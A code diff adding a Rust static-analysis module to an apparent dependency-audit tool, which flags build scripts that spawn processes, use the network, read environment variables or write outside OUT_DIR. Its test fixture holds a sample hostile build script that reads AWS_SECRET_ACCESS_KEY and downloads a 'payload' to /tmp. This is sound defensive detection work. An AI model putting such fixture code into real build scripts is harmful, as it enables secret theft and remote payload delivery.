@@ -0,0 +1,456 @@
+//! Static analysis of build scripts and proc-macro detection
+//!
+//! Build scripts and procedural macros run arbitrary code on the machine that
+//! compiles the project. The scan parses the build script with `syn` and
+//! looks for process spawning, networking, environment reads and file writes
+//! outside `OUT_DIR`. It is a heuristic: code hidden behind macros or helper
+//! crates is not seen, and paths passed through function arguments are only
+//! recognised as `OUT_DIR`-derived when their name mentions it.
+
+use crate::error::{AuditError, Result};
+use crate::types::{BuildCapability, BuildScriptAnalysis};
+use cargo_metadata::{DependencyKind, Package};
+use quote::ToTokens;
+use std::collections::{BTreeSet, HashSet};
+use std::fs;
+use std::path::{Path, PathBuf};
+use syn::punctuated::Punctuated;
+use syn::visit::{self, Visit};
+
+/// Crates that give a build script network access
+const NETWORK_CRATES: &[&str] = &[
+    "reqwest", "ureq", "curl", "hyper", "attohttpc", "minreq", "isahc", "surf", "http_req", "ssh2",
+];
+
+/// Variables Cargo sets for build scripts (see "Environment variables Cargo sets for build scripts")
+const CARGO_ENV_VARS: &[&str] = &[
+    "OUT_DIR", "TARGET", "HOST", "NUM_JOBS", "OPT_LEVEL", "DEBUG", "PROFILE", "RUSTC", "RUSTDOC",
+    "RUSTC_LINKER", "RUSTC_WRAPPER", "RUSTC_WORKSPACE_WRAPPER",
+];
+
+/// File system functions that write, and the index of their destination argument
+const WRITE_FUNCTIONS: &[(&str, usize)] = &[
+    ("fs::write", 0),
+    ("fs::create_dir", 0),
+    ("fs::create_dir_all", 0),
+    ("fs::remove_file", 0),
+    ("fs::remove_dir", 0),
+    ("fs::remove_dir_all", 0),
+    ("fs::copy", 1),
+    ("fs::rename", 1),
+    ("fs::hard_link", 1),
+    ("File::create", 0),
+];
+
+/// Whether the package has a build script target
+pub fn has_build_script(package: &Package) -> bool {
+    build_script_path(package).is_some()
+}
+
+/// Whether the package is a procedural macro crate
+pub fn is_proc_macro(package: &Package) -> bool {
+    package
+        .targets
+        .iter()
+        .any(|t| t.kind.iter().any(|k| k == "proc-macro"))
+}
+
+/// Scan the package's build script, if it has one.
+pub fn analyze_build_script(package: &Package) -> Result<Option<BuildScriptAnalysis>> {
+    let Some(script) = build_script_path(package) else {
+        return Ok(None);
+    };
+    if !script.is_file() {
+        return Ok(None);
+    }
+
+    let build_deps: Vec<String> = package
+        .dependencies
+        .iter()
+        .filter(|d| d.kind == DependencyKind::Build)
+        .map(|d| d.rename.as_deref().unwrap_or(&d.name).replace('-', "_"))
+        .collect();
+
+    let mut analysis = analyze_sources(&script_files(&script)?)?;
+    let mut network: BTreeSet<String> = analysis.network_crates.drain(..).collect();
+    network.extend(build_deps.into_iter().filter(|d| NETWORK_CRATES.contains(&d.as_str())));
+    analysis.network_crates = network.into_iter().collect();
+    analysis.capabilities = capabilities(&analysis);
+    Ok(Some(analysis))
+}
+
+fn build_script_path(package: &Package) -> Option<PathBuf> {
+    package
+        .targets
+        .iter()
+        .find(|t| t.kind.iter().any(|k| k == "custom-build"))
+        .map(|t| t.src_path.clone().into_std_path_buf())
+}
+
+/// A `build.rs` at the package root is one file; a `build/main.rs` brings its modules along
+fn script_files(script: &Path) -> Result<Vec<PathBuf>> {
+    let Some(dir) = script.parent() else {
+        return Ok(vec![script.to_path_buf()]);
+    };
+    if script.file_name().is_some_and(|n| n != "main.rs") {
+        return Ok(vec![script.to_path_buf()]);
+    }
+    let mut files = Vec::new();
+    collect_rs_files(dir, &mut files)?;
+    files.sort();
+    Ok(files)
+}
+
+fn collect_rs_files(dir: &Path, files: &mut Vec<PathBuf>) -> Result<()> {
+    for entry in fs::read_dir(dir)? {
+        let path = entry?.path();
+        if path.is_dir() {
+            collect_rs_files(&path, files)?;
+        } else if path.extension().is_some_and(|ext| ext == "rs") {
+            files.push(path);
+        }
+    }
+    Ok(())
+}
+
+fn analyze_sources(files: &[PathBuf]) -> Result<BuildScriptAnalysis> {
+    let mut analysis = BuildScriptAnalysis::default();
+    for path in files {
+        let content = fs::read_to_string(path)?;
+        let file = syn::parse_file(&content).map_err(|e| {
+            AuditError::parse(format!("Could not parse build script {}: {}", path.display(), e))
+        })?;
+
+        let prelude = Prelude::collect(&file);
+        let mut scanner = Scanner {
+            prelude: &prelude,
+            found: &mut analysis,
+        };
+        scanner.visit_file(&file);
+    }
+
+    for list in [
+        &mut analysis.commands,
+        &mut analysis.network_crates,
+        &mut analysis.env_vars,
+        &mut analysis.writes,
+    ] {
+        list.sort();
+        list.dedup();
+    }
+    Ok(analysis)
+}
+
+fn capabilities(analysis: &BuildScriptAnalysis) -> Vec<BuildCapability> {
+    let mut capabilities = Vec::new();
+    if !analysis.commands.is_empty() {
+        capabilities.push(BuildCapability::SpawnsProcess);
+    }
+    if !analysis.network_crates.is_empty() {
+        capabilities.push(BuildCapability::Network);
+    }
+    if !analysis.env_vars.is_empty() {
+        capabilities.push(BuildCapability::ReadsEnv);
+    }
+    if !analysis.writes.is_empty() {
+        capabilities.push(BuildCapability::WritesOutsideOutDir);
+    }
+    capabilities
+}
+
+fn is_cargo_env_var(name: &str) -> bool {
+    CARGO_ENV_VARS.contains(&name) || name.starts_with("CARGO") || name.starts_with("DEP_")
+}
+
+/// Imports and `OUT_DIR`-derived bindings, collected before the scan
+#[derive(Default)]
+struct Prelude {
+    imports: Vec<String>,
+    out_dir_bindings: HashSet<String>,
+}
+
+impl Prelude {
+    fn collect(file: &syn::File) -> Self {
+        let mut prelude = Prelude::default();
+        for item in &file.items {
+            if let syn::Item::Use(item) = item {
+                flatten_use_tree(String::new(), &item.tree, &mut prelude.imports);
+            }
+        }
+
+        // Bindings can derive from each other in any order (`let dest = out_dir.join(..)`)
+        loop {
+            let mut collector = BindingCollector {
+                bindings: &prelude.out_dir_bindings,
+                found: Vec::new(),
+            };
+            collector.visit_file(file);
+            let before = prelude.out_dir_bindings.len();
+            prelude.out_dir_bindings.extend(collector.found);
+            if prelude.out_dir_bindings.len() == before {
+                break;
+            }
+        }
+        prelude
+    }
+
+    fn imports_ending(&self, suffix: &str) -> bool {
+        self.imports.iter().any(|import| import.ends_with(suffix))
+    }
+
+    /// Whether an expression's tokens mention `OUT_DIR` or a binding derived from it
+    fn is_out_dir(&self, tokens: &str) -> bool {
+        mentions_out_dir(tokens, &self.out_dir_bindings)
+    }
+}
+
+fn mentions_out_dir(tokens: &str, bindings: &HashSet<String>) -> bool {
+    tokens.contains("OUT_DIR")
+        || tokens
+            .split(|c: char| !c.is_alphanumeric() && c != '_')
+            .any(|word| bindings.contains(word) || word.to_ascii_lowercase().contains("out_dir"))
+}
+
+fn flatten_use_tree(prefix: String, tree: &syn::UseTree, imports: &mut Vec<String>) {
+    let join = |name: &str| {
+        if prefix.is_empty() {
+            name.to_string()
+        } else {
+            format!("{}::{}", prefix, name)
+        }
+    };
+    match tree {
+        syn::UseTree::Path(path) => flatten_use_tree(join(&path.ident.to_string()), &path.tree, imports),
+        syn::UseTree::Name(name) if name.ident == "self" => imports.push(prefix),
+        syn::UseTree::Name(name) => imports.push(join(&name.ident.to_string())),
+        syn::UseTree::Rename(rename) => imports.push(join(&rename.ident.to_string())),
+        syn::UseTree::Glob(_) => imports.push(join("*")),
+        syn::UseTree::Group(group) => {
+            for tree in &group.items {
+                flatten_use_tree(prefix.clone(), tree, imports);
+            }
+        }
+    }
+}
+
+fn path_string(path: &syn::Path) -> String {
+    path.segments
+        .iter()
+        .map(|s| s.ident.to_string())
+        .collect::<Vec<_>>()
+        .join("::")
+}
+
+fn tokens(node: &impl ToTokens) -> String {
+    node.to_token_stream().to_string()
+}
+
+fn string_literal(expr: Option<&syn::Expr>) -> Option<String> {
+    match expr {
+        Some(syn::Expr::Lit(syn::ExprLit {
+            lit: syn::Lit::Str(lit),
+            ..
+        })) => Some(lit.value()),
+        _ => None,
+    }
+}
+
+struct BindingCollector<'a> {
+    bindings: &'a HashSet<String>,
+    found: Vec<String>,
+}
+
+impl<'ast> Visit<'ast> for BindingCollector<'_> {
+    fn visit_local(&mut self, node: &'ast syn::Local) {
+        if let (syn::Pat::Ident(pat), Some(init)) = (&node.pat, &node.init) {
+            let name = pat.ident.to_string();
+            if !self.bindings.contains(&name) && mentions_out_dir(&tokens(&init.expr), self.bindings) {
+                self.found.push(name);
+            }
+        }
+        visit::visit_local(self, node);
+    }
+}
+
+struct Scanner<'a> {
+    prelude: &'a Prelude,
+    found: &'a mut BuildScriptAnalysis,
+}
+
+impl Scanner<'_> {
+    fn is_command_new(&self, path: &str) -> bool {
+        if path.contains("process::Command::new") {
+            return true;
+        }
+        path == "Command::new"
+            && (self.prelude.imports_ending("process::Command") || self.prelude.imports_ending("process::*"))
+    }
+
+    fn is_env_read(&self, path: &str) -> bool {
+        let function = path.rsplit("::").next().unwrap_or(path);
+        if !matches!(function, "var" | "var_os" | "vars" | "vars_os") {
+            return false;
+        }
+        path.ends_with(&format!("env::{}", function))
+            || (path == function
+                && (self.prelude.imports_ending(&format!("env::{}", function))
+                    || self.prelude.imports_ending("env::*")))
+    }
+
+    fn record_env_read(&mut self, name: Option<String>, all: bool) {
+        match name {
+            Some(name) if is_cargo_env_var(&name) => {}
+            Some(name) => self.found.env_vars.push(name),
+            None if all => self.found.env_vars.push("*".to_string()),
+            None => self.found.env_vars.push("<dynamic>".to_string()),
+        }
+    }
+
+    fn record_network_path(&mut self, path: &str) {
+        let first = path.split("::").next().unwrap_or(path);
+        if NETWORK_CRATES.contains(&first) {
+            self.found.network_crates.push(first.to_string());
+        } else if path.starts_with("std::net") || path.starts_with("net::Tcp") || path.starts_with("net::Udp") {
+            self.found.network_crates.push("std::net".to_string());
+        }
+    }
+}
+
+impl<'ast> Visit<'ast> for Scanner<'_> {
+    fn visit_item_use(&mut self, node: &'ast syn::ItemUse) {
+        let mut imports = Vec::new();
+        flatten_use_tree(String::new(), &node.tree, &mut imports);
+        for import in imports {
+            self.record_network_path(&import);
+        }
+        visit::visit_item_use(self, node);
+    }
+
+    fn visit_item_extern_crate(&mut self, node: &'ast syn::ItemExternCrate) {
+        self.record_network_path(&node.ident.to_string());
+        visit::visit_item_extern_crate(self, node);
+    }
+
+    fn visit_path(&mut self, node: &'ast syn::Path) {
+        self.record_network_path(&path_string(node));
+        visit::visit_path(self, node);
+    }
+
+    fn visit_expr_call(&mut self, node: &'ast syn::ExprCall) {
+        if let syn::Expr::Path(func) = node.func.as_ref() {
+            let path = path_string(&func.path);
+            if self.is_command_new(&path) {
+                let program = string_literal(node.args.first()).unwrap_or_else(|| "<dynamic>".to_string());
+                self.found.commands.push(program);
+            } else if self.is_env_read(&path) {
+                let all = path.ends_with("vars") || path.ends_with("vars_os");
+                self.record_env_read(string_literal(node.args.first()), all);
+            } else if let Some((_, index)) = WRITE_FUNCTIONS.iter().find(|(f, _)| path.ends_with(f)) {
+                if let Some(dest) = node.args.iter().nth(*index) {
+                    let dest = tokens(dest);
+                    if !self.prelude.is_out_dir(&dest) {
+                        self.found.writes.push(format!("{}({})", path, dest));
+                    }
+                }
+            }
+        }
+        visit::visit_expr_call(self, node);
+    }
+
+    fn visit_expr_method_call(&mut self, node: &'ast syn::ExprMethodCall) {
+        // OpenOptions::new().write(true).open(path)
+        if node.method == "open" {
+            let receiver = tokens(&node.receiver);
+            let writes = receiver.contains("write") || receiver.contains("append") || receiver.contains("create");
+            if receiver.contains("OpenOptions") && writes {
+                if let Some(dest) = node.args.first() {
+                    let dest = tokens(dest);
+                    if !self.prelude.is_out_dir(&dest) {
+                        self.found.writes.push(format!("OpenOptions::open({})", dest));
+                    }
+                }
+            }
+        }
+        visit::visit_expr_method_call(self, node);
+    }
+
+    fn visit_macro(&mut self, node: &'ast syn::Macro) {
+        if node.path.is_ident("env") || node.path.is_ident("option_env") {
+            let args = node
+                .parse_body_with(Punctuated::<syn::Expr, syn::Token![,]>::parse_terminated)
+                .ok();
+            let name = args.as_ref().and_then(|args| string_literal(args.first()));
+            self.record_env_read(name, false);
+        }
+        visit::visit_macro(self, node);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn scan(source: &str) -> BuildScriptAnalysis {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("build.rs");
+        fs::write(&path, source).unwrap();
+        let mut analysis = analyze_sources(&[path]).unwrap();
+        analysis.capabilities = capabilities(&analysis);
+        analysis
+    }
+
+    #[test]
+    fn test_codegen_build_script_is_clean() {
+        let analysis = scan(
+            r#"
+            use std::env;
+            use std::fs;
+            use std::path::Path;
+
+            fn main() {
+                let out = env::var("OUT_DIR").unwrap();
+                let dest = Path::new(&out).join("generated.rs");
+                fs::write(&dest, "pub const X: u32 = 1;").unwrap();
+                if env::var("CARGO_FEATURE_STD").is_ok() {
+                    println!("cargo:rustc-cfg=std");
+                }
+            }
+            "#,
+        );
+        assert!(analysis.capabilities.is_empty(), "{:?}", analysis);
+    }
+
+    #[test]
+    fn test_risky_build_script() {
+        let analysis = scan(
+            r#"
+            use std::process::Command;
+            use std::env::var;
+
+            fn main() {
+                let _ = Command::new("git").args(["rev-parse", "HEAD"]).output();
+                let _ = std::process::Command::new(var("CC").unwrap()).status();
+                let token = std::env::var("AWS_SECRET_ACCESS_KEY");
+                let home = env!("HOME");
+                let body = reqwest::blocking::get("https://example.com/payload").unwrap();
+                std::fs::write("/tmp/payload", body.text().unwrap()).unwrap();
+                let _ = std::net::TcpStream::connect("10.0.0.1:80");
+            }
+            "#,
+        );
+        assert_eq!(
+            analysis.capabilities,
+            vec![
+                BuildCapability::SpawnsProcess,
+                BuildCapability::Network,
+                BuildCapability::ReadsEnv,
+                BuildCapability::WritesOutsideOutDir,
+            ]
+        );
+        assert_eq!(analysis.commands, vec!["<dynamic>", "git"]);
+        assert_eq!(analysis.network_crates, vec!["reqwest", "std::net"]);
+        assert_eq!(analysis.env_vars, vec!["AWS_SECRET_ACCESS_KEY", "CC", "HOME"]);
+        assert_eq!(analysis.writes.len(), 1);
+        assert!(analysis.writes[0].contains("/tmp/payload"));
+    }
+}